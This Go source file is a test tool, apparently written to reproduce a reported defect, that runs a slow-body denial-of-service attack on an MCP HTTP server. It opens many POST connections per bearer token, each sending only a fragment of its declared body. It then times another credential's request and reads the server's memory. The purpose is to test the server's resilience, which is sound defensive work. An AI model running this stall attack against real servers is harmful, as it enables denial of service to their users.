// Command stallclient plays the attack of issue "Hosted at scale" defect 2
// against a running server: each of a few credentials opens many POSTs
// whose body never arrives, then another credential's request is timed.
// It reports how many stalled requests the server held and how many it
// refused at once, the probe's status and latency, and the server's
// resident memory before and after (with -server-pid, Linux).
//
//	stallclient -url http://127.0.0.1:8787/mcp -tokens k1,k2,k3 -probe k4 -per 100 -server-pid N
package main

import (
	"bufio"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "stallclient:", err)
		os.Exit(1)
	}
}

func run() error {
	target := flag.String("url", "http://127.0.0.1:8787/mcp", "endpoint `URL`")
	tokens := flag.String("tokens", "", "comma-separated bearer tokens of the attacking credentials")
	probe := flag.String("probe", "", "bearer token of the credential whose request is timed")
	per := flag.Int("per", 100, "stalled requests per attacking credential")
	pid := flag.Int("server-pid", 0, "server process id, to read its resident memory (Linux)")
	flag.Parse()
	u, err := url.Parse(*target)
	if err != nil || *tokens == "" || *probe == "" {
		return fmt.Errorf("need -url, -tokens and -probe")
	}
	rssBefore := rss(*pid)
	var conns []net.Conn
	var mu sync.Mutex
	statuses := map[int]int{}
	var wg sync.WaitGroup
	start := time.Now()
	for _, tok := range strings.Split(*tokens, ",") {
		for range *per {
			c, err := net.Dial("tcp", u.Host)
			if err != nil {
				return err
			}
			conns = append(conns, c)
			fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json\r\n"+
				"MCP-Protocol-Version: 2026-07-28\r\nMcp-Method: tools/list\r\nAuthorization: Bearer %s\r\nContent-Length: 100000\r\n\r\n{\"jsonrpc\"",
				u.Path, u.Host, tok)
			wg.Add(1)
			go func() {
				defer wg.Done()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				resp, err := http.ReadResponse(bufio.NewReader(c), nil)
				st := 0
				if err == nil {
					st = resp.StatusCode
					resp.Body.Close()
				}
				mu.Lock()
				statuses[st]++
				mu.Unlock()
			}()
		}
	}
	opened := time.Since(start)
	time.Sleep(time.Second) // let the server take every request in
	body := `{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}`
	req, _ := http.NewRequest("POST", *target, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json")
	req.Header.Set("MCP-Protocol-Version", "2026-07-28")
	req.Header.Set("Mcp-Method", "tools/list")
	req.Header.Set("Authorization", "Bearer "+*probe)
	t0 := time.Now()
	resp, err := http.DefaultClient.Do(req)
	lat := time.Since(t0)
	probeStatus := 0
	if err == nil {
		probeStatus = resp.StatusCode
		resp.Body.Close()
	}
	rssDuring := rss(*pid)
	wg.Wait()
	for _, c := range conns {
		c.Close()
	}
	fmt.Printf("stalled requests: %d (opened in %v)\n", len(conns), opened.Round(time.Millisecond))
	fmt.Printf("answers within 5s: refused 503: %d, timed out 408: %d, held without answer: %d, other: %d\n",
		statuses[503], statuses[408], statuses[0], len(conns)-statuses[503]-statuses[408]-statuses[0])
	fmt.Printf("probe by another credential: status %d in %v\n", probeStatus, lat.Round(time.Microsecond))
	if *pid > 0 {
		fmt.Printf("server RSS: %d KiB before, %d KiB while stalled\n", rssBefore, rssDuring)
	}
	return nil
}

// rss reads a process's resident set size in KiB (Linux), 0 elsewhere.
func rss(pid int) int {
	if pid <= 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			var n int
			fmt.Sscan(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), &n)
			return n
		}
	}
	return 0
}
